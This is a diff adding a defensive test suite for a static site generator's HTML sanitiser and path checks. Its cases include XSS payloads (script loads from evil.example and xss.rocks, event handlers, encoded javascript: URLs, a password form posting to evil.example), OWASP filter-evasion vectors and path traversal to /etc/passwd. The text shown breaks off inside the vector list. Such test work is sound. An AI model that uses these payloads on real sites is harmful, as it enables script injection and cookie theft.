@@ -1,0 +1,591 @@
+"""Hostile and careless content (issue 7): every input ends in safe output or a located error.
+
+Each case is a real site on disk built by the real `Builder`; a "safe" case
+inspects the built page, an "error" case asserts path, line and message and
+that nothing was published. The property-based tests feed random bytes and
+random front-matter to `check` and `build` (in-process and through the CLI),
+and the last test walks every page of the demo site.
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+import os
+import re
+import unicodedata
+from dataclasses import dataclass, field
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Callable
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from conftest import REPO, post_text, run_cli, write_site
+from generator.build import Builder, BuildOptions
+from generator.errors import Severity
+from generator.markup import sanitize, url_scheme
+
+AS_OF = dt.date(2026, 11, 27)
+BODY = 6  # first body line of post_text() without extra fields
+PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\x0dIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde" + b"\x00\x00\x00\x0cIDATx\x9cc\xf8\xcf\xc0\x00\x00\x03\x01\x01\x00\xc9\xfe\x92\xef" + b"\x00\x00\x00\x00IEND\xaeB`\x82"
+OTHER_UNIT = 'name = "经济学院党委"\nkind = "教学单位"\n'
+
+
+def md(body: str, title: str = "标题", **extra: object) -> str:
+    return post_text(title, "2026-03-05", "通知公告", body, **extra)
+
+
+# ---------------------------------------------------------------------------
+# what "safe" means, checked on built HTML
+
+
+class _Walk(HTMLParser):
+    """Every start tag with its attributes, and the tags inside <div class="body">."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, dict[str, str]]] = []
+        self.body: list[tuple[str, dict[str, str]]] = []
+        self.body_text: list[str] = []
+        self._depth = 0  # >0 while inside the post body
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        a = {k: v or "" for k, v in attrs}
+        self.tags.append((tag, a))
+        if self._depth:
+            self.body.append((tag, a))
+            if tag == "div":
+                self._depth += 1
+        elif tag == "div" and a.get("class") == "body":
+            self._depth = 1
+
+    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.handle_starttag(tag, attrs)
+        if self._depth and tag == "div":
+            self._depth -= 1
+
+    def handle_endtag(self, tag: str) -> None:
+        if self._depth and tag == "div":
+            self._depth -= 1
+
+    def handle_data(self, data: str) -> None:
+        if self._depth:
+            self.body_text.append(data)
+
+
+def walk(html: str) -> _Walk:
+    w = _Walk()
+    w.feed(html)
+    w.close()
+    return w
+
+
+# Scripts the theme itself includes: assets/site.<hash>.js (and the search page's
+# own assets/search.<hash>.js), relative or root-absolute (the 404 page).
+THEME_SCRIPTS = re.compile(r"^(?:(?:\.\./)*|/(?:[^/]+/)*)assets/(?:site|search)\.[0-9a-f]+\.js$")
+
+
+def unsafe_in_page(html: str) -> list[str]:
+    """What must never appear on any page: content script, handlers, script URLs."""
+    bad: list[str] = []
+    for tag, attrs in walk(html).tags:
+        if tag == "script" and not THEME_SCRIPTS.match(attrs.get("src", "")):
+            bad.append(f"<script {attrs}>")
+        for name, value in attrs.items():
+            if name.startswith("on"):
+                bad.append(f"<{tag} {name}=…>")
+            scheme = url_scheme(value)
+            if scheme in ("javascript", "vbscript", "data", "livescript"):
+                bad.append(f"<{tag} {name}={value[:40]}>")
+    return bad
+
+
+BODY_FORBIDDEN_TAGS = {"script", "style", "iframe", "frame", "object", "embed", "form", "input", "button", "meta", "base", "link", "svg", "math", "textarea", "select", "noscript", "template"}
+
+
+def unsafe_in_body(html: str) -> list[str]:
+    bad = unsafe_in_page(html)
+    for tag, attrs in walk(html).body:
+        if tag in BODY_FORBIDDEN_TAGS:
+            bad.append(f"<{tag}> in body")
+        if "style" in attrs:
+            bad.append(f"<{tag} style> in body")
+    return bad
+
+
+# ---------------------------------------------------------------------------
+# the corpus
+
+
+@dataclass(frozen=True)
+class Case:
+    files: dict[str, str | bytes]
+    expect: str  # "safe": built, page inspected | "error": located error, nothing published
+    path: str = "content/jx/a.md"
+    line: int = BODY
+    fragments: tuple[str, ...] = ()  # all in one message (a warning for "safe" cases, if given)
+    present: tuple[str, ...] = ()  # substrings of the built post page
+    absent: tuple[str, ...] = ()
+    page: str = "jx/a/index.html"
+    setup: Callable[[Path], None] | None = field(default=None, compare=False)
+
+
+def _link(rel: str, target: str) -> Callable[[Path], None]:
+    def make(site: Path) -> None:
+        link = site / rel
+        link.parent.mkdir(parents=True, exist_ok=True)
+        os.symlink(target, link)
+
+    return make
+
+
+def _fifo(rel: str) -> Callable[[Path], None]:
+    def make(site: Path) -> None:
+        path = site / rel
+        path.parent.mkdir(parents=True, exist_ok=True)
+        os.mkfifo(path)
+
+    return make
+
+
+def _raw_name(folder: str, name: bytes, data: bytes) -> Callable[[Path], None]:
+    def make(site: Path) -> None:
+        base = os.fsencode(site / folder)
+        os.makedirs(base, exist_ok=True)
+        with open(os.path.join(base, name), "wb") as fh:
+            fh.write(data)
+
+    return make
+
+
+def _outside(site: Path) -> None:
+    """A folder next to the site (outside every unit) with files a link could point at."""
+    secret = site.parent / f"{site.name}-outside"
+    secret.mkdir(exist_ok=True)
+    (secret / "secret.pdf").write_bytes(b"%PDF-1.4\n")
+    (secret / "photo.png").write_bytes(PNG)
+    (secret / "evil.md").write_text(md("外来"), encoding="utf-8")
+    (secret / "_unit.toml").write_text(OTHER_UNIT, encoding="utf-8")
+
+
+def _then(*steps: Callable[[Path], None]) -> Callable[[Path], None]:
+    def run(site: Path) -> None:
+        for s in steps:
+            s(site)
+
+    return run
+
+
+OWASP = "请删除这个链接或改成网址"
+SCRIPT_GONE = ("<script", "alert(1)")
+
+CASES: dict[str, Case] = {
+    # --- script tags in many spellings: removed with their content, a warning names them
+    "script-plain": Case({"content/jx/a.md": md("<script>alert(1)</script>\n\n正文")}, "safe", fragments=("<script>", "运行脚本"), absent=SCRIPT_GONE, present=("正文",)),
+    "script-mixed-case": Case({"content/jx/a.md": md("<ScRiPt>alert(1)</sCrIpT>\n\n正文")}, "safe", fragments=("<script>",), absent=SCRIPT_GONE),
+    "script-src-protocol-relative": Case({"content/jx/a.md": md("<SCRIPT SRC=//evil.example/xss.js></SCRIPT>\n\n正文")}, "safe", fragments=("<script>",), absent=("evil.example",)),
+    "script-split-tag": Case({"content/jx/a.md": md("<scr<script>ipt>alert(1)</script>\n\n正文")}, "safe", absent=("<script", "<scr<")),
+    "script-inside-svg": Case({"content/jx/a.md": md("<svg><script>alert(1)</script></svg>\n\n正文")}, "safe", fragments=("<svg>", "SVG"), absent=SCRIPT_GONE),
+    "script-in-conditional-comment": Case({"content/jx/a.md": md("<!--[if gte IE 4]><script>alert(1)</script><![endif]-->\n\n正文")}, "safe", absent=SCRIPT_GONE + ("[if",)),
+    "script-in-noscript-attribute": Case(
+        {"content/jx/a/index.md": md('<noscript><p title="</noscript><img src=photo.png onerror=alert(1)>"></noscript>\n\n正文'), "content/jx/a/photo.png": PNG},
+        "safe", path="content/jx/a/index.md", fragments=("<noscript>",), absent=("onerror", "<noscript"),
+    ),
+    "script-in-code-block-is-text": Case({"content/jx/a.md": md("```html\n<script>alert(1)</script>\n```\n")}, "safe", present=("&lt;script&gt;alert(1)&lt;/script&gt;",), absent=("<script",)),
+    # --- event handlers: the attribute goes, the element stays
+    "img-onerror": Case(
+        {"content/jx/a/index.md": md('<img src="photo.png" onerror="alert(1)">'), "content/jx/a/photo.png": PNG},
+        "safe", path="content/jx/a/index.md", fragments=("onerror", "运行脚本"), present=('src="photo.png"',), absent=("onerror", "alert"),
+    ),
+    "svg-onload": Case({"content/jx/a.md": md("<svg/onload=alert(1)>\n\n正文")}, "safe", fragments=("<svg>",), absent=("onload", "<svg")),
+    "body-onload": Case({"content/jx/a.md": md("<body onload=alert(1)>\n\n正文")}, "safe", fragments=("onload",), absent=("onload",)),
+    "details-ontoggle": Case({"content/jx/a.md": md("<details open ontoggle=alert(1)><summary>摘要</summary>内容</details>")}, "safe", fragments=("ontoggle",), present=("<details", "内容"), absent=("ontoggle",)),
+    "link-onmouseover": Case(
+        {"content/jx/a.md": md('<a href="https://www.example.edu.cn/" onmouseover="alert(1)">学校主页</a>')},
+        "safe", fragments=("onmouseover",), present=('href="https://www.example.edu.cn/"', "学校主页"), absent=("onmouseover",),
+    ),
+    # --- javascript:/vbscript:/data: URLs: an error at the line, nothing published
+    "javascript-markdown-link": Case({"content/jx/a.md": md("[点我](javascript:alert(1))")}, "error", fragments=("javascript:", "http、https、mailto、tel", OWASP)),
+    "javascript-mixed-case-img": Case({"content/jx/a.md": md("<IMG SRC=JaVaScRiPt:alert(1)>")}, "error", fragments=("“javascript:”",)),
+    # Python-Markdown does not take a tag with a quote inside an unquoted value as HTML: text
+    "javascript-img-quoted-arg-is-text": Case({"content/jx/a.md": md("<IMG SRC=JaVaScRiPt:alert('XSS')>")}, "safe", present=("<p>&lt;IMG SRC=JaVaScRiPt:alert('XSS')&gt;</p>",), absent=("<img",)),
+    "javascript-decimal-entities": Case(
+        {"content/jx/a.md": md('<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>')}, "error", fragments=("“javascript:”",)
+    ),
+    "javascript-padded-entities-no-semicolon": Case(
+        {"content/jx/a.md": md('<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>')},
+        "error", fragments=("“javascript:”",),
+    ),
+    "javascript-hex-entities": Case({"content/jx/a.md": md('<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>')}, "error", fragments=("“javascript:”",)),
+    # Markdown expands the tab to spaces, which no browser removes: a missing relative file
+    "javascript-embedded-tab": Case({"content/jx/a.md": md('<a href="jav\tascript:alert(1);">x</a>')}, "error", fragments=("不存在",)),
+    "javascript-encoded-newline": Case({"content/jx/a.md": md('<a href="jav&#x0A;ascript:alert(1);">x</a>')}, "error", fragments=("“javascript:”",)),
+    "javascript-leading-control-char": Case({"content/jx/a.md": md('<a href=" &#14;  javascript:alert(1)">x</a>')}, "error", fragments=("“javascript:”",)),
+    "javascript-colon-entity": Case({"content/jx/a.md": md('<a href="javascript&colon;alert(1)">x</a>')}, "error", fragments=("“javascript:”",)),
+    "vbscript-link": Case({"content/jx/a.md": md('<a href="vbscript:msgbox(1)">x</a>')}, "error", fragments=("“vbscript:”",)),
+    "data-url-link": Case({"content/jx/a.md": md("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)")}, "error", fragments=("“data:”",)),
+    "data-url-image": Case({"content/jx/a.md": md("![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)")}, "error", fragments=("“data:”",)),
+    "javascript-in-button-formaction": Case({"content/jx/a.md": md('<button formaction="javascript:alert(1)">x</button>')}, "error", fragments=("“javascript:”",)),
+    "javascript-in-math-xlink": Case(
+        {"content/jx/a.md": md('<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">CLICKME</maction></math>')}, "error", fragments=("“javascript:”",)
+    ),
+    "javascript-reference-link": Case({"content/jx/a.md": md("见[这里][x]。\n\n[x]: javascript:alert(1)")}, "error", line=BODY + 2, fragments=("“javascript:”",)),
+    # --- elements that embed, restyle, redirect or collect: removed, a warning says why
+    "iframe": Case({"content/jx/a.md": md('<iframe src="https://evil.example/"></iframe>\n\n正文')}, "safe", fragments=("<iframe>", "嵌入其他网页"), absent=("<iframe", "evil.example")),
+    "object-embed": Case({"content/jx/a.md": md('<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">\n\n正文')}, "safe", fragments=("<object>",), absent=("<object", "<embed", "evil.example")),
+    "form-and-input": Case(
+        {"content/jx/a.md": md('<form action="https://evil.example/"><input name="pw"><button>提交</button></form>')}, "safe", fragments=("<form>", "表单"), absent=("<form", "<input", "<button", "evil.example")
+    ),
+    "style-tag": Case({"content/jx/a.md": md("<style>body{display:none}</style>\n\n正文")}, "safe", fragments=("<style>", "样式"), absent=("display:none",)),
+    "style-attribute": Case({"content/jx/a.md": md('<p style="position:fixed;top:0;width:100%">盖住整页</p>')}, "safe", fragments=("style 属性",), present=("盖住整页",), absent=("position:fixed",)),
+    "meta-refresh": Case({"content/jx/a.md": md('<meta http-equiv="refresh" content="0;url=https://evil.example/">\n\n正文')}, "safe", fragments=("<meta>", "跳转"), absent=("evil.example",)),
+    "base-href": Case({"content/jx/a.md": md('<base href="https://evil.example/">\n\n正文')}, "safe", fragments=("<base>",), absent=("evil.example",)),
+    "link-stylesheet": Case({"content/jx/a.md": md('<link rel="stylesheet" href="https://evil.example/x.css">\n\n正文')}, "safe", fragments=("<link>",), absent=("evil.example",)),
+    "font-tag-unwrapped": Case({"content/jx/a.md": md('<font color="red">红字</font>')}, "safe", fragments=("<font>", "文字保留", "strong"), present=("红字",), absent=("<font",)),
+    # --- attr_list-style attribute injection stays literal text
+    "attr-list-onclick": Case({"content/jx/a.md": md("段落 {onclick=alert(1)}")}, "safe", present=("<p>段落 {onclick=alert(1)}</p>",)),
+    "attr-list-heading-style": Case({"content/jx/a.md": md('## 标题 {: #x style="color:red" onmouseover="alert(1)" }')}, "safe", present=("{: #x",), absent=('id="x"',)),
+    # --- front-matter text is escaped, never markup
+    "title-is-escaped": Case(
+        {"content/jx/a.md": md("正文", title="'<script>alert(1)</script><img src=x onerror=alert(1)>'")},
+        "safe", present=("<h1>&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;</h1>",),
+    ),
+    "tag-is-escaped": Case({"content/jx/a.md": md("正文", tags='["<b onmouseover=alert(1)>x</b>"]')}, "safe", present=("&lt;b onmouseover=alert(1)&gt;x&lt;/b&gt;",)),
+    # --- images from outside the site: a warning, the page still builds
+    "external-image": Case({"content/jx/a.md": md("![图](https://img.example.com/a.png)")}, "safe", fragments=("来自站外", "内网无法加载"), present=('src="https://img.example.com/a.png"',)),
+    "protocol-relative-image": Case({"content/jx/a.md": md("![图](//img.example.com/a.png)")}, "safe", fragments=("省略了协议", "站外"), present=('src="https://img.example.com/a.png"',)),
+    "external-raw-img": Case({"content/jx/a.md": md('<img src="http://img.example.com/b.jpg" alt="外图">')}, "safe", fragments=("来自站外",)),
+    # --- traversal in attachments
+    "attachment-dotdot-other-unit": Case(
+        {"content/jx/2026/a.md": md("正文", attachments="[../../jy/x.pdf]"), "content/jy/_unit.toml": OTHER_UNIT, "content/jy/x.pdf": b"%PDF-1.4\n"},
+        "error", path="content/jx/2026/a.md", line=5, fragments=("“../../jy/x.pdf”", "跳出了本单位的文件夹 content/jx/", "签到表.pdf"),
+    ),
+    "attachment-absolute": Case({"content/jx/a.md": md("正文", attachments="[/etc/passwd]")}, "error", line=5, fragments=("“/etc/passwd”", "绝对路径")),
+    "attachment-windows-path": Case({"content/jx/a.md": md("正文", attachments="['C:\\Users\\dangban\\签到表.pdf']")}, "error", line=5, fragments=("Windows",)),
+    "attachment-unc-path": Case({"content/jx/a.md": md("正文", attachments="['\\\\fileserver\\share\\x.pdf']")}, "error", line=5, fragments=("Windows",)),
+    "attachment-backslash": Case({"content/jx/a.md": md("正文", attachments="['..\\jy\\x.pdf']")}, "error", line=5, fragments=("反斜杠",)),
+    "attachment-url-encoded-dotdot": Case(
+        {"content/jx/2026/a.md": md("正文", attachments="['%2e%2e/%2e%2e/jy/x.pdf']"), "content/jy/_unit.toml": OTHER_UNIT, "content/jy/x.pdf": b"%PDF-1.4\n"},
+        "error", path="content/jx/2026/a.md", line=5, fragments=("不存在",),
+    ),
+    "attachment-file-url": Case({"content/jx/a.md": md("正文", attachments="['file:///etc/passwd']")}, "error", line=5, fragments=("是网址",)),
+    "attachment-html": Case({"content/jx/a.md": md("正文", attachments="[page.html]"), "content/jx/page.html": "<script>alert(1)</script>"}, "error", line=5, fragments=("网页或脚本类文件", ".html", "PDF")),
+    "attachment-svg": Case({"content/jx/a.md": md("正文", attachments="[logo.svg]"), "content/jx/logo.svg": "<svg onload=alert(1)/>"}, "error", line=5, fragments=("网页或脚本类文件", ".svg")),
+    # --- traversal in body links and images
+    "link-dotdot-other-unit-file": Case(
+        {"content/jx/2026/a.md": md("[文件](../../jy/x.pdf)"), "content/jy/_unit.toml": OTHER_UNIT, "content/jy/x.pdf": b"%PDF-1.4\n"},
+        "error", path="content/jx/2026/a.md", fragments=("以外的文件", "content/jx/"),
+    ),
+    "link-url-encoded-dotdot": Case({"content/jx/2026/a.md": md("[文件](%2e%2e/%2e%2e/%2e%2e/site.toml)")}, "error", path="content/jx/2026/a.md", fragments=("跳出了 content 文件夹",)),
+    "image-absolute": Case({"content/jx/a.md": md("![x](/etc/passwd)")}, "error", fragments=("绝对路径",)),
+    "link-backslash-host": Case({"content/jx/a.md": md('<a href="/\\evil.example/">x</a>')}, "error", fragments=("绝对路径",)),
+    "raw-img-dotdot": Case(
+        {"content/jx/2026/a.md": md('<img src="../../jy/photo.png">'), "content/jy/_unit.toml": OTHER_UNIT, "content/jy/photo.png": PNG},
+        "error", path="content/jx/2026/a.md", fragments=("以外的文件",),
+    ),
+    "link-to-html-file": Case({"content/jx/a/index.md": md("[页](evil.html)"), "content/jx/a/evil.html": "<script>alert(1)</script>"}, "error", path="content/jx/a/index.md", fragments=("网页或脚本类文件",)),
+    "link-to-other-units-post-is-fine": Case(
+        {"content/jx/a.md": md("见[经济学院](../jy/b.md)。"), "content/jy/_unit.toml": OTHER_UNIT, "content/jy/b.md": md("乙")}, "safe", present=('href="../../jy/b/index.html"',)
+    ),
+    # --- symlinks out of the unit folder
+    "symlink-attachment-outside": Case(
+        {"content/jx/a.md": md("正文", attachments="[secret.pdf]")}, "error", line=5, fragments=("symlink",),
+        setup=_then(_outside, lambda s: os.symlink(s.parent / f"{s.name}-outside/secret.pdf", s / "content/jx/secret.pdf")),
+    ),
+    "symlink-attachment-other-unit": Case(
+        {"content/jx/a.md": md("正文", attachments="[x.pdf]"), "content/jy/_unit.toml": OTHER_UNIT, "content/jy/x.pdf": b"%PDF-1.4\n"},
+        "error", line=5, fragments=("symlink",), setup=_link("content/jx/x.pdf", "../jy/x.pdf"),
+    ),
+    "symlink-image-outside": Case(
+        {"content/jx/a/index.md": md("![照片](photo.png)")}, "error", path="content/jx/a/index.md", fragments=("symlink",),
+        setup=_then(_outside, lambda s: os.symlink(s.parent / f"{s.name}-outside/photo.png", s / "content/jx/a/photo.png")),
+    ),
+    "symlink-directory-outside": Case(
+        {"content/jx/a.md": md("正文")}, "error", path="content/jx/shared", line=1, fragments=("文件夹", "symlink"),
+        setup=_then(_outside, lambda s: os.symlink(s.parent / f"{s.name}-outside", s / "content/jx/shared")),
+    ),
+    "symlink-post-outside": Case(
+        {"content/jx/a.md": md("正文")}, "error", path="content/jx/evil.md", line=1, fragments=("symlink",),
+        setup=_then(_outside, lambda s: os.symlink(s.parent / f"{s.name}-outside/evil.md", s / "content/jx/evil.md")),
+    ),
+    "symlink-unit-toml-outside": Case(
+        {"content/jy/a.md": md("正文")}, "error", path="content/jy/_unit.toml", line=1, fragments=("symlink",),
+        setup=_then(_outside, lambda s: os.symlink(s.parent / f"{s.name}-outside/_unit.toml", s / "content/jy/_unit.toml")),
+    ),
+    "symlink-broken": Case({"content/jx/a.md": md("正文")}, "error", path="content/jx/gone.pdf", line=1, fragments=("失效",), setup=_link("content/jx/gone.pdf", "nowhere.pdf")),
+    "fifo-post": Case({"content/jx/a.md": md("正文")}, "error", path="content/jx/pipe.md", line=1, fragments=("不是普通文件",), setup=_fifo("content/jx/pipe.md")),
+    # --- output collisions
+    "collision-case-insensitive-slug": Case(
+        {"content/jx/2025/Foo.md": md("甲"), "content/jx/2026/foo.md": md("乙")}, "error", path="content/jx/2026/foo.md", line=1, fragments=("content/jx/2025/Foo.md", "重复")
+    ),
+    "collision-nfc-nfd-slug": Case(
+        {f"content/jx/2025/{unicodedata.normalize('NFC', 'café')}.md": md("甲"), f"content/jx/2026/{unicodedata.normalize('NFD', 'café')}.md": md("乙")},
+        "error", path=f"content/jx/2026/{unicodedata.normalize('NFD', 'café')}.md", line=1, fragments=(f"content/jx/2025/{unicodedata.normalize('NFC', 'café')}.md", "重复"),
+    ),
+    "collision-attachments-case": Case(
+        {"content/jx/a.md": md("正文", attachments="[2025/Plan.pdf, 2026/plan.pdf]"), "content/jx/2025/Plan.pdf": b"%PDF-1.4\n", "content/jx/2026/plan.pdf": b"%PDF-1.4\n"},
+        "error", line=5, fragments=("同名", "content/jx/2025/Plan.pdf", "content/jx/2026/plan.pdf"),
+    ),
+    "collision-image-and-attachment": Case(
+        {"content/jx/a/index.md": md("![图](img/Photo.png)", attachments="[photo.png]"), "content/jx/a/photo.png": PNG, "content/jx/a/img/Photo.png": PNG},
+        "error", path="content/jx/a/index.md", line=BODY + 1, fragments=("同名", "content/jx/a/photo.png", "content/jx/a/img/Photo.png"),
+    ),
+    "collision-attachment-claims-page": Case(
+        {"content/jx/a/index.md": md("正文", attachments="[Index.Html]"), "content/jx/a/Index.Html": "<p>x</p>"}, "error", path="content/jx/a/index.md", line=5,
+        fragments=("两个输出使用同一路径", "jx/a/index.html", "jx/a/Index.Html"),
+    ),
+    # --- encodings and bytes
+    "encoding-gbk": Case({"content/jx/a.md": md("正文内容").encode("gbk")}, "error", line=2, fragments=("不是 UTF-8", "GBK", "另存为 UTF-8")),
+    "encoding-utf16-bom": Case({"content/jx/a.md": md("正文").encode("utf-16")}, "error", line=1, fragments=("UTF-16", "UTF-8")),
+    "encoding-utf16-no-bom": Case({"content/jx/a.md": md("正文").encode("utf-16-le")}, "error", line=1, fragments=("UTF-16",)),
+    "encoding-utf8-bom": Case({"content/jx/a.md": b"\xef\xbb\xbf" + md("带 BOM 的正文").encode()}, "safe", present=("带 BOM 的正文",)),
+    "nul-byte": Case({"content/jx/a.md": md("第一段\n\n第二\x00段").encode()}, "error", line=BODY + 2, fragments=("空字符",)),
+    "crlf-line-numbers": Case({"content/jx/a.md": md("正文").replace("2026-03-05", "2026-02-30").replace("\n", "\r\n").encode()}, "error", line=3, fragments=("2026年2月只有 28 天",)),
+    "crlf-builds": Case({"content/jx/a.md": md("第一行\n\n第二行").replace("\n", "\r\n").encode()}, "safe", present=("<p>第一行</p>", "<p>第二行</p>"), absent=("\r",)),
+    "lone-cr-builds": Case({"content/jx/a.md": md("第一行\n\n第二行").replace("\n", "\r").encode()}, "safe", present=("<p>第一行</p>",)),
+    "line-separator-counts-as-line": Case(
+        {"content/jx/a.md": "---\ntitle: 标题\u2028date: 2026-02-30\nsection: 通知公告\n---\n正文\n"}, "error", line=3, fragments=("不存在",)
+    ),
+    "filename-gbk-bytes": Case({"content/jx/a.md": md("正文")}, "error", path="content/jx/" + ("签到表".encode("gbk") + b".pdf").decode("utf-8", "replace").replace("\ufffd", "?"), line=1, fragments=("不是 UTF-8", "GBK"), setup=_raw_name("content/jx", "签到表".encode("gbk") + b".pdf", b"%PDF")),
+    "filename-newline": Case({"content/jx/a.md": md("正文")}, "error", path="content/jx/a?b.md", line=1, fragments=("控制字符",), setup=_raw_name("content/jx", b"a\nb.md", md("x").encode())),
+    "deep-blockquote-builds": Case({"content/jx/a.md": md("> " * 3000 + "深")}, "safe", present=("<blockquote>", "深")),
+    "deep-emphasis-recursion": Case({"content/jx/a.md": md("*" * 5000 + "深" + "*" * 5000)}, "error", fragments=("嵌套", "无法转换为网页")),
+    "deep-list-recursion": Case({"content/jx/a.md": md("".join("    " * i + "- 项\n" for i in range(300)))}, "error", fragments=("嵌套",)),
+}
+
+
+def _build(tmp_path: Path, case: Case):
+    site = write_site(tmp_path / "site", dict(case.files))
+    if case.setup is not None:
+        case.setup(site)
+    out = tmp_path / "out"
+    result = Builder(BuildOptions(site, out, as_of=AS_OF)).build()
+    return site, out, result
+
+
+def _show(problems) -> str:
+    return "\n".join(p.format() for p in problems)
+
+
+def test_corpus_is_big_enough() -> None:
+    assert len(CASES) >= 40
+    assert sum(c.expect == "safe" for c in CASES.values()) >= 15 and sum(c.expect == "error" for c in CASES.values()) >= 15
+
+
+@pytest.mark.parametrize("name", sorted(CASES))
+def test_hostile_case(name: str, tmp_path: Path) -> None:
+    case = CASES[name]
+    site, out, result = _build(tmp_path, case)
+    assert all(p.path and p.line >= 1 for p in result.problems), _show(result.problems)
+    if case.expect == "error":
+        hits = [p for p in result.errors if p.path == case.path and p.line == case.line and all(f in p.message for f in case.fragments)]
+        assert hits, f"expected error {case.path}:{case.line} with {case.fragments}, got:\n{_show(result.problems)}"
+        assert not out.exists() or not any(out.rglob("*.html")), "a build with errors must publish nothing"
+        return
+    assert result.ok, _show(result.problems)
+    if case.fragments:
+        hits = [p for p in result.problems if not p.is_error and p.path == case.path and p.line == case.line and all(f in p.message for f in case.fragments)]
+        assert hits, f"expected a warning at {case.path}:{case.line} with {case.fragments}, got:\n{_show(result.problems)}"
+    html = (out / case.page).read_text("utf-8")
+    assert not unsafe_in_body(html), unsafe_in_body(html)
+    body = html.split('<div class="body">', 1)[1].split('<nav class="prev-next"', 1)[0]
+    for s in case.present:
+        assert s in html, f"{s!r} missing from the page"
+    for s in case.absent:
+        assert s not in body, f"{s!r} must not be published"
+    for page in out.rglob("*.html"):
+        assert not unsafe_in_page(page.read_text("utf-8")), page
+
+
+def test_check_and_cli_report_the_same_located_errors(tmp_path: Path) -> None:
+    """`check` (in process and via the CLI) reports what `build` reports, without a traceback."""
+    files: dict[str, str | bytes] = {"content/jx/ok.md": md("好")}
+    expected = []
+    for name in ("javascript-markdown-link", "attachment-absolute", "encoding-gbk", "nul-byte", "data-url-image"):
+        case = CASES[name]
+        new = case.path.replace("content/jx/", f"content/jx/{name}/", 1)
+        files[new] = case.files[case.path]
+        expected.append(f"{new}:{case.line}: 错误：")
+    site = write_site(tmp_path / "site", files)
+    problems = Builder(BuildOptions(site, drafts=True)).check()
+    printed = "\n".join(p.format() for p in problems)
+    for e in expected:
+        assert e in printed, printed
+    proc = run_cli("check", str(site))
+    assert proc.returncode == 1 and "Traceback" not in proc.stdout + proc.stderr
+    for e in expected:
+        assert e in proc.stderr
+    warned = run_cli("build", str(write_site(tmp_path / "w", {"content/jx/a.md": CASES["script-plain"].files["content/jx/a.md"]})), "-o", str(tmp_path / "wo"), "--as-of", "2026-11-27")
+    assert warned.returncode == 0, warned.stderr
+    assert f"content/jx/a.md:{BODY}: 警告：已删除 <script> 标签" in warned.stdout
+
+
+# ---------------------------------------------------------------------------
+# the sanitiser on its own: OWASP filter-evasion vectors never survive
+
+
+OWASP_VECTORS = [
+    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
+    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
+    "<IMG SRC=\"javascript:alert('XSS');\">",
+    "<IMG SRC=javascript:alert('XSS')>",
+    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
+    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
+    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
+    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
+    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
+    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
+    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
+    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
+    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
+    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
+    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
+    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
+    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
+    "<iframe src=http://xss.rocks/scriptlet.html <",
+    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
+    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
+    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
+    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
+    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
+    "<svg/onload=alert('XSS')>",
+    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
+    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
+    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
+    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
+    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
+    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
+    "<BASE HREF=\"javascript:alert('XSS');//\">",
+    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
